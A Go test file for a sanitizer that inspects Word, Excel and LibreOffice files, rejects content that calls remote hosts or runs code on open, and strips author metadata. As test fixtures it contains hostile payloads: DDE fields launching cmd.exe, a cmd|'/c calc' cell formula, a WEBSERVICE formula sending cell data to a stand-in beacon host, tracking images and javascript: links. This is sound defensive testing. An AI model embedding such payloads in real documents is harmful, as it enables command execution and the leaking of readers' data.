package clean

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	stdgif "image/gif"
	stdpng "image/png"
	"io"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"delfi/internal/fault"
	"delfi/internal/peak"
)

// opc is the list of types of content of a file for main, with more entries.
func opc(main string, more ...string) string {
	return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\r\n" +
		`<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
		`<Default Extension="xml" ContentType="application/xml"/><Override PartName="/main.xml" ContentType="application/vnd.openxmlformats-officedocument.` + main + `.main+xml"/>` +
		strings.Join(more, "") + `</Types>`
}

const (
	wordNames = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"`
	prolog    = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\r\n"
)

// wordFile is a text of parts; of body, when the first is no part.
func wordFile(t *testing.T, parts ...string) []byte {
	t.Helper()
	body := `<w:p><w:r><w:t>Il piano</w:t></w:r></w:p>`
	if len(parts)%2 == 1 {
		body, parts = parts[0], parts[1:]
	}
	return zipFile(t, append([]string{"[Content_Types].xml", opc("wordprocessingml.document"), "word/document.xml", prolog + `<w:document ` + wordNames + `><w:body>` + body + `</w:body></w:document>`}, parts...)...)
}

// sheetFile is a table; of cells, when the first is no part.
func sheetFile(t *testing.T, parts ...string) []byte {
	t.Helper()
	cells := `<c r="A1"><v>1</v></c>`
	if len(parts)%2 == 1 {
		cells, parts = parts[0], parts[1:]
	}
	return zipFile(t, append([]string{"[Content_Types].xml", opc("spreadsheetml.sheet"), "xl/worksheets/sheet1.xml", prolog + `<worksheet><sheetData><row r="1">` + cells + `</row></sheetData></worksheet>`}, parts...)...)
}

// textFile is a text of LibreOffice; of body, when the first is no part.
func textFile(t *testing.T, parts ...string) []byte {
	t.Helper()
	body := `<text:p>Il piano</text:p>`
	if len(parts)%2 == 1 {
		body, parts = parts[0], parts[1:]
	}
	return zipFile(t, append([]string{"mimetype", "application/vnd.oasis.opendocument.text", "content.xml",
		`<?xml version="1.0" encoding="UTF-8"?>` + "\n" + `<office:document-content office:version="1.3"><office:scripts/><office:body><office:text>` + body + `</office:text></office:body></office:document-content>`,
	}, parts...)...)
}

// relations is a part of one relation, inside or outside.
func relations(kind, target string, outside bool) string {
	mode := ""
	if outside {
		mode = ` TargetMode="External"`
	}
	return prolog + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/` + kind + `" Target="` + target + `"` + mode + `/></Relationships>`
}

// complexField is a field of Word, whose code stands in pieces.
func complexField(pieces ...string) string {
	char := func(is string) string { return `<w:r><w:fldChar w:fldCharType="` + is + `"/></w:r>` }
	out := `<w:p>` + char("begin")
	for _, p := range pieces {
		out += `<w:r><w:instrText xml:space="preserve">` + p + `</w:instrText></w:r>`
	}
	return out + char("separate") + `<w:r><w:t>x</w:t></w:r>` + char("end") + `</w:p>`
}

// Whatever fetches something when the file is opened is refused, and named; links that a
// reader presses stay.
func TestNothingOfAnOfficeFileCallsHome(t *testing.T) {
	const rels = "word/_rels/document.xml.rels"
	const sheetRels = "xl/worksheets/_rels/sheet1.xml.rels"
	beacon := "https://beacon.example/p.png"
	for name, s := range map[string]struct {
		kind Type
		file []byte
		code string
		what string
	}{
		"a picture elsewhere":     {DOCX, wordFile(t, rels, relations("image", beacon, true)), "file_remote", beacon},
		"a folder of a server":    {DOCX, wordFile(t, rels, relations("image", `\\beacon\a.png`, false)), "file_remote", `\\beacon\a.png`},
		"a mode left out":         {DOCX, wordFile(t, rels, relations("image", beacon, false)), "file_remote", beacon},
		"a mode in other letters": {DOCX, wordFile(t, rels, strings.Replace(relations("image", "p.png", true), "External", " EXTERNAL", 1)), "file_remote", "p.png"},
		"single quotes":           {DOCX, wordFile(t, rels, strings.ReplaceAll(relations("image", beacon, true), `"`, `'`)), "file_remote", beacon},
		"another prefix":          {DOCX, wordFile(t, rels, `<q:Relationships xmlns:q="http://schemas.openxmlformats.org/package/2006/relationships"><q:Relationship Type="x/image" Target="`+beacon+`" TargetMode="External"/></q:Relationships>`), "file_remote", beacon},
		"an object elsewhere":     {DOCX, wordFile(t, rels, relations("oleObject", "file:///C:/a.xlsx", true)), "file_remote", "file:///C:/a.xlsx"},
		"a frame":                 {DOCX, wordFile(t, "word/_rels/webSettings.xml.rels", relations("frame", beacon, true)), "file_remote", beacon},
		"addresses of a letter":   {DOCX, wordFile(t, "word/_rels/settings.xml.rels", relations("mailMergeSource", "file:///C:/a.mdb", true)), "file_remote", "file:///C:/a.mdb"},
		"of a header":             {DOCX, wordFile(t, "word/_rels/header2.xml.rels", relations("image", beacon, true)), "file_remote", beacon},
		"of a building block":     {DOCX, wordFile(t, "word/glossary/_rels/document.xml.rels", relations("image", beacon, true)), "file_remote", beacon},
		"of the package":          {DOCX, wordFile(t, "_rels/.rels", relations("metadata/thumbnail", beacon, true)), "file_remote", beacon},
		"VML":                     {DOCX, wordFile(t, `<w:pict><v:shape><v:imagedata src="`+beacon+`"/></v:shape></w:pict>`), "file_remote", beacon},
		"a link that runs":        {DOCX, wordFile(t, rels, relations("hyperlink", "javascript:alert(1)", true)), "file_remote", "javascript:alert(1)"},
		"a picture by a link":     {DOCX, wordFile(t, `<a:blip r:link="rId1"/>`, rels, relations("hyperlink", beacon, true)), "file_remote", "rId1"},
		"VML by a link":           {DOCX, wordFile(t, `<v:imagedata r:href="rId1"/>`, rels, relations("hyperlink", beacon, true)), "file_remote", "rId1"},
		"an object by a link":     {DOCX, wordFile(t, `<o:OLEObject Type="Link" r:id="rId1"/>`, rels, relations("hyperlink", beacon, true)), "file_remote", "Link"},
		"settings by a link":      {DOCX, wordFile(t, "word/_rels/settings.xml.rels", relations("hyperlink", beacon, true)), "file_remote", beacon},
		"a film":                  {DOCX, wordFile(t, `<wp15:webVideoPr embeddedHtml="x"/>`), "file_remote", "webVideoPr"},
		"a database":              {DOCX, wordFile(t, "word/settings.xml", `<w:settings><w:mailMerge><w:connectString w:val="DSN=a"/></w:mailMerge></w:settings>`), "file_remote", "connectString"},
		"DDE":                     {DOCX, wordFile(t, complexField(` DDEAUTO c:\\windows\\cmd.exe "/k calc" `)), "file_remote", "DDEAUTO"},
		"DDE in pieces":           {DOCX, wordFile(t, complexField(" D", "DE", `AUTO c:\\a `)), "file_remote", "DDEAUTO"},
		"DDE, simple":             {DOCX, wordFile(t, `<w:fldSimple w:instr=" dde a b "/>`), "file_remote", "dde a b"},
		"DDE made by a field": {DOCX, wordFile(t, `<w:p><w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 68 68 69</w:instrText>`+
			`<w:fldChar w:fldCharType="end"/><w:instrText> c:\\a</w:instrText><w:fldChar w:fldCharType="end"/></w:p>`), "file_remote", "{ } }"},
		"a picture's field":  {DOCX, wordFile(t, complexField(` INCLUDEPICTURE "`+beacon+`" \* MERGEFORMATINET `)), "file_remote", beacon},
		"a text's field":     {DOCX, wordFile(t, "word/footer1.xml", `<w:ftr>`+complexField(` IncludeText "a.docx" `)+`</w:ftr>`), "file_remote", "IncludeText"},
		"a page within":      {DOCX, wordFile(t, `<w:altChunk r:id="rId1"/>`), "file_inside", ""},
		"a page's relation":  {DOCX, wordFile(t, rels, relations("aFChunk", "afchunk.mht", false)), "file_inside", ""},
		"an add-in":          {DOCX, wordFile(t, "word/webextensions/taskpanes.xml", `<wetp:taskpanes/>`), "file_program", ""},
		"a ribbon":           {DOCX, wordFile(t, "customUI/customUI14.xml", `<customUI onLoad="a"/>`), "file_program", ""},
		"a drawing":          {DOCX, wordFile(t, "word/media/image1.svg", `<svg><image href="`+beacon+`"/></svg>`), "file_remote", beacon},
		"a drawing's style":  {DOCX, wordFile(t, "word/media/image1.svg", `<svg><style>a{fill:url("`+beacon+`")}</style></svg>`), "file_remote", beacon},
		"a drawing's script": {DOCX, wordFile(t, "word/media/image1.svg", `<svg onload="a()"/>`), "file_program", ""},
		"a chart elsewhere":  {DOCX, wordFile(t, "word/charts/_rels/chart1.xml.rels", relations("oleObject", "file:///a.xlsx", true)), "file_remote", "file:///a.xlsx"},
		"in a table within":  {DOCX, wordFile(t, "word/embeddings/a.xlsx", string(sheetFile(t, sheetRels, relations("image", beacon, true)))), "file_remote", beacon},
		"settings as a font": {DOCX, zipFile(t, "[Content_Types].xml", opc("wordprocessingml.document", `<Override PartName="/word/fonts/a.ttf" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>`)), "file_part", "word/fonts/a.ttf"},
		"a page as a type":   {DOCX, zipFile(t, "[Content_Types].xml", opc("wordprocessingml.document", `<Default Extension="bin" ContentType="text/html"/>`)), "file_inside", ""},

		"another workbook": {XLSX, sheetFile(t, "xl/externalLinks/externalLink1.xml", `<externalLink><externalBook r:id="rId1"/></externalLink>`,
			"xl/externalLinks/_rels/externalLink1.xml.rels", relations("externalLinkPath", "/bilancio/2025.xlsx", true)), "file_remote", "/bilancio/2025.xlsx"},
		"a workbook lost":   {XLSX, sheetFile(t, "xl/externalLinks/_rels/externalLink1.xml.rels", relations("externalLinkPath/xlPathMissing", "2025.xlsx", true)), "file_remote", "2025.xlsx"},
		"DDE of a table":    {XLSX, sheetFile(t, "xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`), "file_remote", "ddeLink"},
		"DDE of a cell":     {XLSX, sheetFile(t, `<c r="A1"><f>cmd|'/c calc'!A0</f></c>`), "file_remote", "cmd|"},
		"a connection":      {XLSX, sheetFile(t, "xl/connections.xml", `<connections><connection id="1" name="Anagrafe"><dbPr connection="DSN=a"/></connection></connections>`), "file_remote", "Anagrafe"},
		"a query":           {XLSX, sheetFile(t, "customXml/item1.xml", `<DataMashup>AAAA</DataMashup>`), "file_remote", "DataMashup"},
		"a web service":     {XLSX, sheetFile(t, `<c r="A1"><f>1+_xlfn.WEBSERVICE("`+beacon+`?"&amp;A2)</f></c>`), "file_remote", "WEBSERVICE"},
		"a picture's cell":  {XLSX, sheetFile(t, `<c r="A1"><f>_xlfn.image("`+beacon+`")</f></c>`), "file_remote", "image"},
		"a name's formula":  {XLSX, sheetFile(t, "xl/workbook.xml", `<workbook><definedNames><definedName name="a">RTD("a",,"b")</definedName></definedNames></workbook>`), "file_remote", "RTD"},
		"a sheet's folder":  {XLSX, sheetFile(t, `<c r="A1"><f>'https://beacon.example/[a.xlsx]F'!A1</f></c>`), "file_remote", "beacon.example"},
		"old macros":        {XLSX, sheetFile(t, "xl/macrosheets/sheet1.xml", `<xm:macrosheet/>`), "file_program", ""},
		"a web picture":     {XLSX, sheetFile(t, "xl/richData/_rels/rdRichValueWebImage.xml.rels", relations("hyperlink", beacon, true)), "file_remote", beacon},
		"a workbook's link": {XLSX, sheetFile(t, "xl/externalLinks/_rels/externalLink1.xml.rels", relations("hyperlink", beacon, true)), "file_remote", beacon},
		"a model":           {XLSX, sheetFile(t, "xl/model/item.data", "x"), "file_inside", ""},

		"a picture of a text":   {ODT, textFile(t, `<draw:frame><draw:image xlink:href="`+beacon+`"/></draw:frame>`), "file_remote", beacon},
		"one beside the text":   {ODT, textFile(t, `<draw:image xlink:href="../a.png"/>`), "file_remote", "../a.png"},
		"one beside, escaped":   {ODT, textFile(t, `<draw:image xlink:href="./%2e%2e/a.png"/>`), "file_remote", "a.png"},
		"one of a server":       {ODT, textFile(t, `<draw:image xlink:href="//beacon.example/a.png"/>`), "file_remote", "//beacon"},
		"an object of a text":   {ODT, textFile(t, `<draw:object xlink:href="`+beacon+`"/>`), "file_remote", beacon},
		"a section elsewhere":   {ODT, textFile(t, `<text:section><text:section-source xlink:href="`+beacon+`"/></text:section>`), "file_remote", beacon},
		"a background":          {ODT, textFile(t, "styles.xml", `<office:document-styles><style:background-image xlink:href="`+beacon+`"/></office:document-styles>`), "file_remote", beacon},
		"a button's picture":    {ODT, textFile(t, `<form:image-frame form:image-data="`+beacon+`"/>`), "file_remote", beacon},
		"a frame within a page": {ODT, textFile(t, `<draw:floating-frame xlink:href="`+beacon+`"/>`), "file_remote", beacon},
		"DDE of a text":         {ODT, textFile(t, `<text:dde-connection-decls><text:dde-connection-decl office:dde-application="soffice"/></text:dde-connection-decls>`), "file_remote", "dde-connection-decl"},
		"a macro's event":       {ODT, textFile(t, `<office:event-listeners><script:event-listener xlink:href="vnd.sun.star.script:a"/></office:event-listeners>`), "file_program", ""},
		"a macro's link":        {ODT, textFile(t, `<text:a xlink:href="vnd.sun.star.script:a">x</text:a>`), "file_remote", "vnd.sun.star.script:a"},
		"a script's field":      {ODT, textFile(t, `<text:script script:language="JavaScript">a()</text:script>`), "file_program", ""},
		"a chart's service":     {ODT, textFile(t, "Object 1/content.xml", `<office:document-content><table:table-cell table:formula="of:=WEBSERVICE(&quot;a&quot;)"/></office:document-content>`), "file_remote", "WEBSERVICE"},
		"versions":              {ODT, textFile(t, "VersionList.xml", `<VL:version-list/>`), "file_inside", ""},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := Clean(s.kind, bytes.NewReader(s.file), int64(len(s.file)), discard{})
			fields := fieldsOf(err)
			if len(fields) != 1 || fields[0].Code != s.code {
				t.Fatalf("%v: %v", err, fields)
			}
			if named := fmt.Sprint(fields[0].Args["what"], fields[0].Args["part"]); !strings.Contains(named, s.what) {
				t.Errorf("it names %q", named)
			}
		})
	}
}

// Names go in whatever letters, prefixes and parts they stand; a part that is not known, or
// not written as office programs do, is refused by its name.
func TestNamesOfAnOfficeFileAreFoundHoweverTheyAreWritten(t *testing.T) {
	wide := string(binary.LittleEndian.AppendUint16(nil, 0xfeff))
	for _, c := range utf16.Encode([]rune(`<?xml version="1.0" encoding="UTF-16"?><coreProperties><creator>` + secret + `</creator></coreProperties>`)) {
		wide += string(binary.LittleEndian.AppendUint16(nil, c))
	}
	gone := []Removed{Author}
	core := `<a:coreProperties xmlns:a="x" xmlns:b="y"><b:creator>` + secret + `</b:creator><a:lastModifiedBy >` + secret + `</a:lastModifiedBy ></a:coreProperties>`
	photo := string(behind(jpegFile(t), segment(0xe1, exif(0, binary.LittleEndian))))
	for name, s := range map[string]specimen{
		"other prefixes":         {DOCX, wordFile(t, "docProps/core.xml", core), gone, ""},
		"other letters":          {DOCX, wordFile(t, "docprops/Core.XML", core), gone, ""},
		"a second one":           {DOCX, wordFile(t, "docProps/core2.xml", core), gone, ""},
		"of .NET":                {DOCX, wordFile(t, "package/services/metadata/core-properties/0f.psmdcp", "\ufeff"+core), gone, ""},
		"as a custom part":       {DOCX, wordFile(t, "customXml/item1.xml", core), gone, ""},
		"without prefixes":       {DOCX, wordFile(t, "docProps/core.xml", `<coreProperties><creator><![CDATA[`+secret+`]]></creator></coreProperties>`), gone, ""},
		"two bytes a letter":     {DOCX, wordFile(t, "docProps/core.xml", wide), nil, "file_form"},
		"another code":           {DOCX, wordFile(t, "docProps/core.xml", `<?xml version="1.0" encoding="ISO-8859-1"?><coreProperties/>`), nil, "file_form"},
		"entities":               {DOCX, wordFile(t, "docProps/core.xml", `<!DOCTYPE a [<!ENTITY b "`+secret+`">]><coreProperties><creator>&b;</creator></coreProperties>`), nil, "file_form"},
		"not closed":             {DOCX, wordFile(t, "docProps/core.xml", `<coreProperties><creator>`+secret), nil, "file_form"},
		"single quotes":          {DOCX, wordFile(t, `<w:ins w:author='`+secret+`' w:id='1'/>`), nil, "file_comments"},
		"blanks around":          {DOCX, wordFile(t, "<w:del w:id=\"1\"\n w:author = \""+secret+"\"/>"), nil, "file_comments"},
		"another prefix":         {DOCX, wordFile(t, `<q:cellIns q:author="`+secret+`"/>`), nil, "file_comments"},
		"of a building block":    {DOCX, wordFile(t, "word/glossary/document.xml", `<w:glossaryDocument><w:ins w:author="`+secret+`"/></w:glossaryDocument>`), nil, "file_comments"},
		"of a style":             {DOCX, wordFile(t, "word/styles.xml", `<w:styles><w:rPrChange w:author="`+secret+`"/></w:styles>`), nil, "file_comments"},
		"people of a block":      {DOCX, wordFile(t, "word/people.xml", `<a:people><a:person a:author='`+secret+`'><a:presenceInfo a:userId="`+secret+`"/></a:person></a:people>`), gone, ""},
		"who may change it":      {DOCX, wordFile(t, `<w:permStart w:id="1" w:ed='`+secret+`'/><w:permEnd w:id="1"/>`), gone, ""},
		"those it is shared":     {DOCX, wordFile(t, "customXml/item1.xml", `<p:properties><documentManagement><SharedWithUsers><UserInfo><DisplayName>`+secret+`</DisplayName></UserInfo></SharedWithUsers></documentManagement></p:properties>`), gone, ""},
		"the template's folder":  {DOCX, wordFile(t, "word/settings.xml", `<w:settings><w:attachedTemplate r:id="rId1"/></w:settings>`, "word/_rels/settings.xml.rels", relations("attachedTemplate", `file:///C:\Users\`+secret+`\Normal.dotm`, true)), gone, ""},
		"a template elsewhere":   {DOCX, wordFile(t, "word/_rels/settings.xml.rels", relations("attachedTemplate", `https://beacon.example/?`+secret, true)), gone, ""},
		"a program as a picture": {DOCX, wordFile(t, "word/media/x.exe", "MZ"), nil, "file_part"},
		"one with its name":      {DOCX, wordFile(t, "word/media/x.png", "MZ"+strings.Repeat("x", 99)), nil, "file_part"},
		"a photograph as PNG":    {DOCX, wordFile(t, "word/media/x.png", photo), []Removed{Picture}, ""},
		"a note in a picture":    {DOCX, wordFile(t, "word/media/x.gif", gifFile(t, "\x21\xfe\x0b"+secret+"\x00")), []Removed{Picture}, ""},
		"a packet in a picture":  {ODT, textFile(t, "Pictures/x.gif", gifFile(t, "\x21\xff\x0bXMP DataXMP\x0b"+secret+"\x00")), []Removed{Picture}, ""},
		"behind a picture":       {ODT, textFile(t, "Pictures/x.gif", gifFile(t, "")+secret), []Removed{Picture}, ""},
		"a picture cut":          {ODT, textFile(t, "Pictures/x.gif", gifFile(t, "")[:20]), nil, "file_damaged"},
		"an object":              {DOCX, wordFile(t, "word/embeddings/oleObject1.ole", "x"), nil, "file_inside"},
		"a page":                 {DOCX, wordFile(t, "word/afchunk.mht", "x"), nil, "file_inside"},
		"an unknown part":        {DOCX, wordFile(t, "word/appunti.xml", "<a/>"), nil, "file_part"},
		"two of one name":        {DOCX, wordFile(t, "word/Document.xml", "<a/>"), nil, "file_damaged"},
		"who refreshed":          {XLSX, sheetFile(t, "xl/pivotCache/pivotCacheDefinition1.xml", `<pivotCacheDefinition r:id="rId1" refreshedBy = "`+secret+`" refreshedDate="1"/>`), gone, ""},
		"who reserved":           {XLSX, sheetFile(t, "xl/workbook.xml", `<workbook><fileSharing userName='`+secret+`'/></workbook>`), gone, ""},
		"who commented":          {XLSX, sheetFile(t, "xl/comments1.xml", `<x:comments><x:authors><x:author>`+secret+`</x:author></x:authors></x:comments>`), nil, "file_comments"},
		"persons":                {XLSX, sheetFile(t, "xl/persons/person.xml", `<personList><person displayName="`+secret+`" id="1"/></personList>`), gone, ""},
		"another's prefixes":     {ODT, textFile(t, "meta.xml", `<o:document-meta><o:meta><d:creator>`+secret+`</d:creator><m:printed-by>`+secret+`</m:printed-by></o:meta></o:document-meta>`), gone, ""},
		"a template's folder":    {ODT, textFile(t, "meta.xml", `<o:document-meta><o:meta><m:template xlink:href="../../`+secret+`/a.ott"/></o:meta></o:document-meta>`), gone, ""},
		"a page that reloads":    {ODT, textFile(t, "meta.xml", `<o:document-meta><o:meta><m:auto-reload xlink:href="https://beacon.example/`+secret+`"/></o:meta></o:document-meta>`), gone, ""},
		"a drawing's author":     {ODT, textFile(t, "Pictures/a.svg", `<svg><metadata><dc:creator>`+secret+`</dc:creator></metadata><path d="M0 0"/></svg>`), gone, ""},
		"a remark":               {ODT, textFile(t, `<q:annotation><d:creator>`+secret+`</d:creator></q:annotation>`), nil, "file_comments"},
		"a program in a text":    {ODT, textFile(t, "Pictures/a.js", "x"), nil, "file_part"},
	} {
		t.Run(name, func(t *testing.T) { s.check(t) })
	}
}

// What people have passes, byte for byte where nothing is removed.
func TestOrdinaryOfficeFilesPass(t *testing.T) {
	png := string(pngFile(t))
	gif := gifFile(t, "\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00")
	emf := "\x01\x00\x00\x00" + strings.Repeat("\x00", 36) + " EMF" + strings.Repeat("\x00", 60)
	link := relations("hyperlink", "https://www.normattiva.it/a?b=c&amp;d", true)
	for name, s := range map[string]specimen{
		"Word": {DOCX, wordFile(t,
			`<w:p>`+complexField(` HYPERLINK "https://www.normattiva.it" `)+complexField(` PAGE `)+complexField(` IF `, `1=1 "a" "b" `)+`</w:p><w:p w:rsidR="00A1"><w:ins w:id="1"/><w:t>DDE &amp; INCLUDEPICTURE</w:t></w:p><!-- x -->`,
			"_rels/.rels", relations("officeDocument", "word/document.xml", false), "word/_rels/document.xml.rels", link,
			"word/styles.xml", prolog+`<w:styles><w:style w:styleId="a"/></w:styles>`, "word/stylesWithEffects.xml", `<w:styles/>`, "word/settings.xml", `<w:settings><w:rsids/></w:settings>`,
			"word/webSettings.xml", `<w:webSettings/>`, "word/fontTable.xml", `<w:fonts/>`, "word/numbering.xml", `<w:numbering/>`, "word/theme/theme1.xml", `<a:theme/>`,
			"word/header12.xml", `<w:hdr/>`, "word/footnotes.xml", `<w:footnotes/>`, "word/glossary/document.xml", `<w:glossaryDocument/>`, "word/glossary/settings.xml", `<w:settings/>`,
			"word/diagrams/data1.xml", `<dgm:dataModel/>`, "word/charts/chart1.xml", `<c:chartSpace><c:f>Foglio1!$A$1</c:f></c:chartSpace>`, "word/charts/_rels/chart1.xml.rels", relations("package", "../embeddings/Microsoft_Excel_Sheet1.xlsx", false),
			"word/embeddings/Microsoft_Excel_Sheet1.xlsx", string(sheetFile(t)), "word/media/image1.png", png, "word/media/image2.gif", gif, "word/media/image3.emf", emf,
			"word/media/image4.svg", `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg><style>.a{fill:url(#b)}</style><a href="https://riva.example"><path fill="url(#b)"/></a><image href="data:image/png;base64,AA"/></svg>`,
			"word/fonts/font1.odttf", "x", "word/printerSettings/printerSettings1.bin", "x", "customXml/item1.xml", `<b:Sources><b:Author><b:Last>Delfi</b:Last></b:Author></b:Sources>`, "customXml/itemProps1.xml", `<ds:datastoreItem/>`,
			"customXml/_rels/item1.xml.rels", relations("customXmlProps", "itemProps1.xml", false), "docMetadata/LabelInfo.xml", `<clbl:labelList/>`, "docProps/app.xml", `<Properties><Company>Comune</Company></Properties>`,
			"docProps/thumbnail.emf", emf, "word/", ""), nil, ""},
		"Word on the web": {DOCX, zipFile(t, "[Content_Types].xml", opc("wordprocessingml.document"), "word/document2.xml", `<w:document/>`, "word/styles2.xml", `<w:styles/>`, "word/intelligence2.xml", `<int2:intelligence/>`), nil, ""},
		"Google":          {DOCX, wordFile(t, "word/fonts/Roboto-regular.ttf", "x", "word/commentsExtended.xml", `<w15:commentsEx/>`, "word/people.xml", `<w15:people/>`, "customXml/item1.xml", `<go:gDocsCustomXmlDataStorage><go:docsCustomData/></go:gDocsCustomXmlDataStorage>`), nil, ""},
		"Excel": {XLSX, sheetFile(t, `<c r="A1"><f>SUM(B1:B3)&amp;"WEBSERVICE( | "&amp;'a|b'!A1+HYPERLINK("https://riva.example")</f><v>1</v></c>`,
			"xl/workbook.xml", prolog+`<workbook><definedNames><definedName name="_xlnm.Print_Area">Foglio1!$A$1</definedName></definedNames></workbook>`, "xl/styles.xml", `<styleSheet/>`, "xl/SharedStrings.xml", `<sst><si><t>a|b</t></si></sst>`,
			"xl/calcChain.xml", `<calcChain/>`, "xl/metadata.xml", `<metadata/>`, "xl/worksheets/_rels/sheet1.xml.rels", link, "xl/printerSettings/printerSettings1.bin", "x", "xl/drawings/drawing1.xml", `<xdr:wsDr/>`,
			"xl/drawings/vmlDrawing1.vml", `<xml xmlns:v="x"><v:shape type="#a"><v:textbox><div>x<br></div></v:textbox></v:shape></xml>`, "xl/tables/table1.xml", `<table/>`, "xl/pivotCache/pivotCacheDefinition1.xml", `<pivotCacheDefinition/>`,
			"xl/pivotTables/pivotTable1.xml", `<pivotTableDefinition/>`, "xl/persons/person.xml", `<personList/>`, "xl/richData/rdrichvalue.xml", `<rvData/>`, "xl/ctrlProps/ctrlProp1.xml", `<formControlPr/>`, "xl/comments1.xml", `<comments><authors><author/></authors></comments>`), nil, ""},
		"Google's tables": {XLSX, sheetFile(t, `<c r="A1"><f>IFERROR(__xludf.DUMMYFUNCTION("IMPORTXML(""https://riva.example"")"),1)</f></c>`, "xl/metadata", "x"), nil, ""},
		"LibreOffice": {ODT, textFile(t, `<text:a xlink:href="https://riva.example/">x</text:a><text:a xlink:href="mailto:urp@riva.example">x</text:a><text:a xlink:href="#capo">x</text:a><draw:image xlink:href="Pictures/a.png"/><draw:object xlink:href="./Object 1"/>`,
			"styles.xml", `<office:document-styles/>`, "meta.xml", `<office:document-meta><office:meta><meta:generator>LibreOffice</meta:generator></office:meta></office:document-meta>`, "settings.xml", `<office:document-settings/>`,
			"META-INF/manifest.xml", `<!DOCTYPE manifest:manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><manifest:manifest/>`, "manifest.rdf", `<rdf:RDF/>`, "layout-cache", "x", "Pictures/a.png", png, "Thumbnails/thumbnail.png", png,
			"Configurations2/accelerator/current.xml", "", "Configurations2/images/Bitmaps/", "", "Configurations2/toolbar/", "", "Object 1/content.xml", `<office:document-content><table:table-cell table:formula="of:={1;2|3;4}"/></office:document-content>`,
			"Object 1/meta.xml", `<office:document-meta/>`, "Object 2/content.xml", `<math><mi>x</mi></math>`, "ObjectReplacements/Object 1", "VCLMTF\x01\x00"+strings.Repeat("x", 60), "Fonts/a.ttf", "x"), nil, ""},
	} {
		t.Run(name, func(t *testing.T) {
			if out := s.check(t); !slices.Equal(names(t, out), names(t, s.file)) {
				t.Errorf("%q", names(t, out))
			}
		})
	}
}

// fieldsOf gives what is to be mended.
func fieldsOf(err error) []fault.Field {
	var f *fault.Fault
	if errors.As(err, &f) {
		return f.Fields
	}
	return nil
}

// gifFile is a picture with more blocks before its image.
func gifFile(t *testing.T, blocks string) string {
	t.Helper()
	var b bytes.Buffer
	if err := stdgif.Encode(&b, picture(), nil); err != nil {
		t.Fatal(err)
	}
	head := 13
	if flags := b.Bytes()[10]; flags&0x80 != 0 {
		head += 3 << (flags&7 + 1)
	}
	return b.String()[:head] + blocks + b.String()[head:]
}

func pngFile(t *testing.T) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := stdpng.Encode(&b, picture()); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// A part has one name: that of the list, which was looked at.
func TestAPartHasOneName(t *testing.T) {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, h := range []zip.FileHeader{{Name: "[Content_Types].xml"}, {Name: "word/document.xml"}, {Name: "word/fonts/a.ttf", Comment: secret, Extra: []byte("up\x0d\x00\x01\x00\x00\x00\x00word/x.b")}} {
		w, err := z.CreateHeader(&h)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(w, map[string]string{"[Content_Types].xml": opc("wordprocessingml.document"), "word/document.xml": "<w:document/>"}[h.Name]); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	out, removed, code := try(t, DOCX, b.Bytes())
	if code != "" || len(removed) > 0 || bytes.Contains(out, []byte("word/x.b")) || bytes.Contains(out, []byte(secret)) || !bytes.Contains(b.Bytes(), []byte("word/x.b")) {
		t.Errorf("%q %q %q", removed, code, out)
	}
}

// names lists the parts of an archive.
func names(t *testing.T, b []byte) []string {
	t.Helper()
	var out []string
	for name := range unzipped(t, b) {
		out = append(out, name)
	}
	slices.Sort(out)
	return out
}

// A hostile office file costs no more than its bounds, and ends in words.
func TestAnOfficeFileCostsNoMoreThanItsBounds(t *testing.T) {
	huge := 20 << 20
	many := func(unit string) string { return strings.Repeat(unit, huge/len(unit)) }
	for name, s := range map[string]struct {
		file []byte
		code string
	}{
		"one text":             {wordFile(t, many("x")), "file_damaged"},
		"one tag":              {wordFile(t, "<a "+many(`b="" `)+"/>"), "file_damaged"},
		"elements within":      {wordFile(t, many("<a>")), "file_damaged"},
		"names by the million": {wordFile(t, "word/people.xml", "<people>"+many("<person/>")+"</people>"), "file_damaged"},
		"fields within":        {wordFile(t, many(`<w:fldChar fldCharType="begin"/><instrText>IF </instrText>`)), "file_damaged"},
		"a formula":            {sheetFile(t, "<f>"+many("1+<!-- -->")+"</f>"), "file_damaged"},
		"a picture":            {wordFile(t, "word/media/a.webp", "RIFF0000WEBP"+many("x")), "file_grown"},
		"all together":         {sheetFile(t, "xl/worksheets/a.xml", "<a>"+strings.Repeat("<!--"+strings.Repeat("x", 1<<19)+"-->", 300)+"</a>"), "file_grown"},
	} {
		t.Run(name, func(t *testing.T) {
			peak.Within(t, 48<<20, func() {
				kind := DOCX
				if bytes.Contains(s.file[:min(len(s.file), 4096)], []byte("xl/worksheets")) {
					kind = XLSX
				}
				_, err := Clean(kind, bytes.NewReader(s.file), int64(len(s.file)), discard{})
				if f := fieldsOf(err); len(f) != 1 || f[0].Code != s.code {
					t.Errorf("%v %v", err, f)
				}
			})
		})
	}
}
